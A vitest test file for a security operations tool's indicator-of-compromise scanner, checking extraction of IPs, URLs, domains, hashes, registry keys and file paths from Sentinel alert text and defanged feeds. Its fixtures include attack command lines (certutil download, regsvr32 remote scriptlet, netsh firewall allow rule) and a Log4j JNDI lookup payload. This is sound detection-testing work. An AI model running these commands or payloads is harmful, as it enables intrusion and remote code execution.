import { describe, expect, it } from 'vitest';
import { Entity } from '@soc/contracts';
import { finalizeEntities, type EntityDraft } from '../src/entities.ts';
import { MAX_IOCS, MAX_SCAN_CHARS, scanTextForIocs } from '../src/ioc-scan.ts';

/** `type:value` pairs in the order the scanner returns them, the shape every table below states. */
const pairs = (text: string): string[] => scanTextForIocs(text).map((e) => `${e.type}:${e.value}`);
const find = (text: string, type: EntityDraft['type']): Record<string, unknown> | undefined =>
  scanTextForIocs(text).find((e) => e.type === type) as Record<string, unknown> | undefined;

interface Case {
  name: string;
  text: string;
  expected: string[];
}

const table = (cases: Case[]) => it.each(cases)('$name', ({ text, expected }) => expect(pairs(text)).toEqual(expected));

// Descriptions and extended properties of real alerts: rows of the Log Analytics SecurityAlert table from Microsoft's
// demo workspace (microsoft/msticpy @ cb71514, docs/notebooks/data/alertlist.csv, MIT), as copied into
// shared/fixtures/alerts/sentinel-securityalert/rows.jsonl.
describe('real Sentinel alert text', () => {
  table([
    {
      name: 'Dridex C2 description: the victim and the C2 address',
      text: 'Network traffic analysis indicates that your machine (IP 1.2.3.4) has communicated with what is possibly a Command and Control center for a malware of type Dridex at IP 183.95.154.13. Dridex is a banking trojan family that steals credentials of online banking websites. Dridex is typically distributed via phishing emails with Microsoft Word and Excel document attachments.',
      expected: ['ip:1.2.3.4', 'ip:183.95.154.13'],
    },
    {
      name: 'RDP brute force description: the source address in parentheses',
      text: 'Several Remote Desktop login attempts were detected from FreeRDP (96.81.218.10), some of which were able to successfully login to the machine.\nEvent logs analysis shows that in the last 30 minutes there were 60 failed attempts.\n20 of the failed login attempts aimed at non-existent users.',
      expected: ['ip:96.81.218.10'],
    },
    {
      name: 'Petya description: the report URL and its host',
      text: 'Analysis of host data on MSTICALERTSWIN1 detected indicators associated with Petya ransomware. See https://blogs.technet.microsoft.com/mmpc/2017/06/27/new-ransomware-old-techniques-petya-adds-worm-capabilities/ for more information. Review the commandline associated in this alert and escalate this alert to your security team.',
      expected: [
        'url:https://blogs.technet.microsoft.com/mmpc/2017/06/27/new-ransomware-old-techniques-petya-adds-worm-capabilities/',
        'domain:blogs.technet.microsoft.com',
      ],
    },
    {
      name: 'mimikatz description: a quoted path named twice is one file',
      text: "Machine logs indicate that the suspicious Process: 'C:\\ProgramFiles\\mimikatz.exe' was running with the command line: 'C:\\ProgramFiles\\mimikatz.exe'",
      expected: ['file:C:\\ProgramFiles\\mimikatz.exe'],
    },
    {
      name: 'masquerading csrss description: an unquoted path in a sentence',
      text: 'The system process c:\\windows\\fonts\\csrss.exe was observed running in an abnormal context. Malware often use this process name to masquerade its malicious activity.',
      expected: ['file:c:\\windows\\fonts\\csrss.exe'],
    },
    {
      name: 'Cacls description: tool names and "etc." are not domains',
      text: 'A lot of time the binary is used by the attackers to lower the security settings of a system.  This is done by giving Everyone full access to some of the system binaries like ftp.exe, net.exe, wscript.exe etc. Analysis of host data on MSTICALERTSWIN1 detected suspicious use of Cacls to lower the security of a system.',
      expected: [],
    },
    {
      name: 'certutil description: no indicator at all',
      text: 'Analysis of host data on MSTICALERTSWIN1 detected that certutil.exe, a built-in administrator utility, was being used to decode an executable instead of its mainstream purpose that relates to manipulating certificates and certificate data.',
      expected: [],
    },
    {
      name: 'command line of a certutil download: the URL and its loopback address',
      text: 'certutil  -urlcache -split -f http://127.0.0.1/',
      expected: ['url:http://127.0.0.1/', 'ip:127.0.0.1'],
    },
    {
      name: 'squiblydoo command line: a single-label URL host is a URL, scrobj.dll is not a domain',
      text: '.\\regsvr32   /s /n /u /i:http://server/file.sct scrobj.dll',
      expected: ['url:http://server/file.sct'],
    },
    {
      name: 'reg.exe command line: a quoted registry key',
      text: '.\\reg.exe   add "hkcu\\console" /v windowposition /t reg_dword /d 33554556 /f',
      expected: ['registry:hkcu\\console'],
    },
    {
      name: 'netsh command line: the program path after program=',
      text: '.\\netsh  advfirewall firewall add rule name=rbtgskq action=allow program=c:\\users\\bob\\appdata\\roaming\\rbtgskq\\rbtgskq.exe',
      expected: ['file:c:\\users\\bob\\appdata\\roaming\\rbtgskq\\rbtgskq.exe'],
    },
  ]);

  it('fills the typed fields of files and registry keys', () => {
    expect(find("Process: 'C:\\ProgramFiles\\mimikatz.exe' ran", 'file')).toEqual({
      type: 'file',
      value: 'C:\\ProgramFiles\\mimikatz.exe',
      name: 'mimikatz.exe',
      path: 'C:\\ProgramFiles\\mimikatz.exe',
      origin: 'extracted',
    });
    expect(find('add "hkcu\\console" /v windowposition', 'registry')).toEqual({
      type: 'registry',
      value: 'hkcu\\console',
      key: 'hkcu\\console',
      origin: 'extracted',
    });
  });
});

// Indicator values from Microsoft-published feeds (Azure/Azure-Sentinel `Sample Data/Feeds`, MIT, as copied into
// shared/fixtures/enrichment/ioc_feeds): ActiniumIOC.csv, SOURGUM.csv, MSTICIoCs-ExchangeServer…March2021.csv, written
// in the defanged forms threat reports use.
describe('defanged indicators are refanged', () => {
  table([
    {
      name: 'hxxps URL with [.]',
      text: 'Payload from hxxps://evil[.]example[.]com/a?b=1 today',
      expected: ['url:https://evil.example.com/a?b=1', 'domain:evil.example.com'],
    },
    {
      name: 'hXXp URL with {.} and [.]',
      text: 'GET hXXp://winmslaf{.}xyz/payload.exe',
      expected: ['url:http://winmslaf.xyz/payload.exe', 'domain:winmslaf.xyz'],
    },
    {
      name: 'h**ps URL',
      text: 'beacon to h**ps://fbcdnads[.]live/api',
      expected: ['url:https://fbcdnads.live/api', 'domain:fbcdnads.live'],
    },
    {
      name: 'fxp URL',
      text: 'staged on fxp://lenatara[.]ru/drop',
      expected: ['url:ftp://lenatara.ru/drop', 'domain:lenatara.ru'],
    },
    {
      name: '[:]// separator',
      text: 'see hxxp[:]//acetica[.]online/x',
      expected: ['url:http://acetica.online/x', 'domain:acetica.online'],
    },
    {
      name: '[://] separator',
      text: 'see https[://]hilocake[.]info',
      expected: ['url:https://hilocake.info', 'domain:hilocake.info'],
    },
    { name: 'IPv4 with [.]', text: 'C2 at 203[.]0[.]113[.]7 on 443', expected: ['ip:203.0.113.7'] },
    { name: 'IPv4 with (.) once', text: 'seen from 198(.)51.100.23', expected: ['ip:198.51.100.23'] },
    { name: 'domain with (dot)', text: 'resolved bad(dot)example(dot)org', expected: ['domain:bad.example.org'] },
    { name: 'domain with [dot]', text: 'resolved oyoida[dot]ru twice', expected: ['domain:oyoida.ru'] },
    { name: 'e-mail with [@] and [.]', text: 'sender user[@]example[.]com', expected: ['mailbox:user@example.com'] },
    {
      name: 'e-mail with (at) and (dot)',
      text: 'sender user(at)example(dot)com',
      expected: ['mailbox:user@example.com'],
    },
    {
      name: 'a file-extension TLD counts when the writer defanged it',
      text: 'lure hosted at invoice[.]zip',
      expected: ['domain:invoice.zip'],
    },
  ]);
});

describe('what is not an indicator', () => {
  table([
    { name: 'a dotted version longer than an address', text: 'Update to version 1.2.3.4.5 today', expected: [] },
    { name: 'a Windows build number', text: 'Windows 10 build 10.0.19041.1 is affected', expected: [] },
    { name: 'a v-prefixed version', text: 'agent v1.2.3.4 installed', expected: [] },
    { name: 'a four-part version after "version"', text: 'product version 2.0.0.1 released', expected: [] },
    { name: 'octets with leading zeros or above 255', text: 'hosts 010.8.8.8 and 256.1.1.1', expected: [] },
    {
      name: 'file names',
      text: 'Opened report.pdf, then svchost.exe ran setup.py; see README.md, run.sh and invoice.zip',
      expected: [],
    },
    { name: 'a GUID', text: 'alert e0c9484b-ad5f-4161-b73b-388676c05818 raised', expected: [] },
    {
      name: 'hex inside a longer run',
      text: 'blob 44d88612fea8a8f36de82e1278abb02f00 and token_44d88612fea8a8f36de82e1278abb02f',
      expected: [],
    },
    { name: 'a malware family name', text: 'Defender detected Trojan:Win32/Emotet.PE!MTB', expected: [] },
    {
      name: 'a .NET namespace and a missing space after a sentence',
      text: 'Uses System.IO to write; the host.It was then rebooted',
      expected: [],
    },
    {
      name: 'times, MAC addresses and C++ scopes',
      text: 'at 10:30:00 from 00:1a:2b:3c:4d:5e via std::vector',
      expected: [],
    },
    { name: 'a CVE id', text: 'Exploitation of CVE-2021-44228 detected', expected: [] },
    { name: 'unbracketed " dot " and " at "', text: 'mail bob at example dot com', expected: [] },
    {
      name: 'an e-mail local part that looks like a domain',
      text: 'from report.it@example.com',
      expected: ['mailbox:report.it@example.com'],
    },
    { name: 'a hive alone', text: 'keys under HKLM\\ are protected', expected: [] },
    { name: 'a path that is not executable', text: 'wrote C:\\Users\\bob\\report.pdf', expected: [] },
    {
      name: 'a folder followed by prose',
      text: 'found in C:\\Users\\bob\\Downloads and ran evil.exe later',
      expected: [],
    },
  ]);
});

describe('IP addresses', () => {
  table([
    {
      name: 'IPv6 at the end of a sentence',
      text: 'Sign-in from 2001:db8::8a2e:370:7334.',
      expected: ['ip:2001:db8::8a2e:370:7334'],
    },
    { name: 'upper-case IPv6 is lower-cased', text: 'peer 2001:DB8::1 connected', expected: ['ip:2001:db8::1'] },
    { name: 'link-local IPv6 with a zone', text: 'neighbour fe80::1%eth0', expected: ['ip:fe80::1'] },
    {
      name: 'IPv4-mapped IPv6 is one address',
      text: 'client ::ffff:198.51.100.9 connected',
      expected: ['ip:::ffff:198.51.100.9'],
    },
    {
      name: 'IPv4 with a port and a CIDR',
      text: 'from 192.0.2.10:4444 to 10.0.0.0/8',
      expected: ['ip:192.0.2.10', 'ip:10.0.0.0'],
    },
    {
      name: 'URL with a bracketed IPv6 host and a port',
      text: 'GET http://[2001:db8::1]:8080/x',
      expected: ['url:http://[2001:db8::1]:8080/x', 'ip:2001:db8::1'],
    },
    {
      name: 'Log4j lookup: the host after ldap://',
      text: '${jndi:ldap://45.155.205.233:12344/Basic/Command/Base64/a}',
      expected: ['ip:45.155.205.233'],
    },
  ]);

  it('leaves internal/external classification to finalizeEntities', () => {
    const [ip] = scanTextForIocs('from 10.1.2.3');
    expect(ip).toEqual({ type: 'ip', value: '10.1.2.3', origin: 'extracted' });
    expect(
      finalizeEntities(scanTextForIocs('from 10.1.2.3 and 183.95.154.13')).map((e) => e.type === 'ip' && e.isInternal),
    ).toEqual([true, false]);
  });
});

describe('URLs, domains and e-mail addresses', () => {
  table([
    {
      name: 'closing punctuation the URL did not open is dropped',
      text: '(see http://x.example.com/a_(b)).',
      expected: ['url:http://x.example.com/a_(b)', 'domain:x.example.com'],
    },
    {
      name: 'user info and port are not part of the host',
      text: 'https://user@login.example.net:8443/path',
      expected: ['url:https://user@login.example.net:8443/path', 'domain:login.example.net'],
    },
    {
      name: 'a file-extension TLD counts in a URL host',
      text: 'download https://update.zip/a',
      expected: ['url:https://update.zip/a', 'domain:update.zip'],
    },
    {
      name: 'a domain with a path but no scheme',
      text: 'beacons to kenoratravels.com/api/v1',
      expected: ['domain:kenoratravels.com'],
    },
    { name: 'an all-caps domain', text: 'RESOLVED EVIL.EXAMPLE.COM', expected: ['domain:evil.example.com'] },
    {
      name: 'an IDN-free multi-label ccTLD domain',
      text: 'hosted on mail.example.co.uk now',
      expected: ['domain:mail.example.co.uk'],
    },
    {
      name: "an e-mail's domain is not a second indicator",
      text: 'reply to First.Last@Mail.Example.co.uk',
      expected: ['mailbox:first.last@mail.example.co.uk'],
    },
    { name: 'a domain glued to an underscore is not one', text: 'file example.com_backup', expected: [] },
    {
      name: "a URL's path is not read as domains",
      text: 'http://cdn.example.com/x/evil.com/y',
      expected: ['url:http://cdn.example.com/x/evil.com/y', 'domain:cdn.example.com'],
    },
  ]);
});

describe('hashes', () => {
  // EICAR test file digests, and SHA-512 of the empty input.
  const md5 = '44d88612fea8a8f36de82e1278abb02f';
  const sha1 = '3395856ce81f2b7382dee72602f798b642f14140';
  const sha256 = '275a021bbfb6489e54d471899f7db9d1663fc695ec2fe2a2c4538aabf651fd0f';
  const sha512 =
    'cf83e1357eefb8bdf1542850d66d8007d620e4050b5715dc83f4a921d36ce9ce47d0d13c5d85f2b0ff8318d2877eec2f63b931bd47417a81a538327af927da3e';

  it.each([
    [md5, 'md5'],
    [sha1, 'sha1'],
    [sha256, 'sha256'],
    [sha512, 'sha512'],
  ])('%s is %s', (hash, algorithm) => {
    expect(scanTextForIocs(`File hash: ${hash.toUpperCase()}.`)).toEqual([
      { type: 'hash', value: hash, algorithm, origin: 'extracted' },
    ]);
  });

  it('finds a digest inside a sandbox link as well as the link', () => {
    expect(pairs(`https://www.virustotal.com/gui/file/${sha256}/detection`)).toEqual([
      `url:https://www.virustotal.com/gui/file/${sha256}/detection`,
      'domain:www.virustotal.com',
      `hash:${sha256}`,
    ]);
  });

  it('does not take a 32-digit number or a 40-letter word for a digest', () => {
    expect(pairs(`${'1234567890'.repeat(3)}12 and ${'abcdef'.repeat(6)}abcd`)).toEqual([]);
  });
});

describe('registry keys and executable paths', () => {
  table([
    {
      name: 'spaces inside a key name between backslashes; prose after the last name',
      text: 'Persistence via HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe was set.',
      expected: [
        'registry:HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution Options\\sethc.exe',
      ],
    },
    {
      name: 'two keys in one sentence',
      text: 'HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run and HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil were modified',
      expected: [
        'registry:HKCU\\Software\\Microsoft\\Windows\\CurrentVersion\\Run',
        'registry:HKEY_LOCAL_MACHINE\\SYSTEM\\CurrentControlSet\\Services\\evil',
      ],
    },
    {
      name: 'a quoted key whose last name holds a space',
      text: 'value "HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Windows Update" added',
      expected: ['registry:HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\Windows Update'],
    },
    {
      name: 'an Exchange web shell path with spaces in folder names (MSTIC IOC list)',
      text: 'Web shell C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\8Lw7tAhF9i1pJnRo.aspx was written',
      expected: [
        'file:C:\\Program Files\\Microsoft\\Exchange Server\\V15\\FrontEnd\\HttpProxy\\owa\\auth\\8Lw7tAhF9i1pJnRo.aspx',
      ],
    },
    {
      name: 'two paths on two drives, sentence punctuation dropped',
      text: 'copied C:\\Windows\\Temp\\a.dll to D:\\x\\b.ps1.',
      expected: ['file:C:\\Windows\\Temp\\a.dll', 'file:D:\\x\\b.ps1'],
    },
    {
      name: 'a double extension ends at the executable one',
      text: 'ran c:\\diagnostics\\usertmp\\doubleextension.pdf.exe',
      expected: ['file:c:\\diagnostics\\usertmp\\doubleextension.pdf.exe'],
    },
    {
      name: 'an executable extension followed by another is not executable',
      text: 'backup C:\\temp\\evil.exe.bak kept',
      expected: [],
    },
  ]);
});

describe('results', () => {
  it('are de-duplicated by canonical value and listed in order of appearance', () => {
    const text =
      'EVIL.EXAMPLE.COM then 2001:DB8::1, evil.example.com and 2001:db8::1, md5 44D88612FEA8A8F36DE82E1278ABB02F = 44d88612fea8a8f36de82e1278abb02f';
    expect(pairs(text)).toEqual(['domain:evil.example.com', 'ip:2001:db8::1', 'hash:44d88612fea8a8f36de82e1278abb02f']);
  });

  it('all carry origin "extracted" and pass the alert contract once finalized', () => {
    // The SHA-256 is from MSTIC's Exchange Server IOC list (Azure/Azure-Sentinel `Sample Data/Feeds`, MIT).
    const sha256 = '8e90ed33c7ee82c0b64078ea36ec95f7420ba435c693b3b3dd728b494abf7dfc';
    const text = `hxxps://evil[.]example[.]com/a 203[.]0[.]113[.]7 fe80::1 user(at)example(dot)com ${sha256} HKCU\\Software\\x C:\\x\\y.exe`;
    const drafts = scanTextForIocs(text);
    expect(new Set(drafts.map((d) => d.type))).toEqual(
      new Set(['url', 'domain', 'ip', 'mailbox', 'hash', 'registry', 'file']),
    );
    expect(drafts.every((d) => d.origin === 'extracted')).toBe(true);
    for (const entity of finalizeEntities(drafts)) expect(Entity.safeParse(entity).success).toBe(true);
  });

  it(`stop at ${MAX_IOCS}`, () => {
    const text = Array.from({ length: 150 }, (_, i) => `198.51.${Math.floor(i / 100)}.${i % 100}`).join(' ');
    const found = pairs(text);
    expect(found).toHaveLength(MAX_IOCS);
    expect(found.at(-1)).toBe('ip:198.51.0.99');
  });

  it(`scan only the first ${MAX_SCAN_CHARS} characters`, () => {
    const filler = 'x '.repeat(MAX_SCAN_CHARS / 2);
    expect(pairs(`192.0.2.1 ${filler} 192.0.2.2`)).toEqual(['ip:192.0.2.1']);
  });

  it('are empty for empty text and never throw on odd input', () => {
    expect(scanTextForIocs('')).toEqual([]);
    expect(() => scanTextForIocs('[.]]]((at)hxxp://[:]//\\\\HKLM\\\u0000C:\\\ud800 http://[::1')).not.toThrow();
  });
});

describe('linear time on pathological input', () => {
  // A guard against catastrophic backtracking, not a benchmark: each input is 1 MB and must take well under 2 s.
  const inputs: Record<string, string> = {
    'dotted labels': 'a.'.repeat(500_000),
    'open brackets': '['.repeat(1_000_000),
    'dotted digits': '1.'.repeat(500_000),
    'one long word': 'a'.repeat(1_000_000),
    'one long hex run': 'f'.repeat(1_000_000),
    'local parts without a domain': 'a.'.repeat(499_999) + '@@',
    'at signs': 'a@b.'.repeat(250_000),
    colons: '1:'.repeat(500_000),
    'hives without keys': 'HKLM\\a '.repeat(142_858),
    'drives without files': 'C:\\a '.repeat(200_000),
    'one deep folder': `C:\\${'a\\'.repeat(499_998)}`,
    'schemes without hosts': 'http://'.repeat(142_858),
    'closing parentheses after a URL': `http://a${')'.repeat(999_992)}`,
    'defang markers': '[.]'.repeat(333_334),
    'defanged schemes': 'hxxp'.repeat(250_000),
  };
  it.each(Object.entries(inputs))('%s', (_name, input) => {
    const started = performance.now();
    scanTextForIocs(input);
    expect(performance.now() - started).toBeLessThan(2000);
  });
});
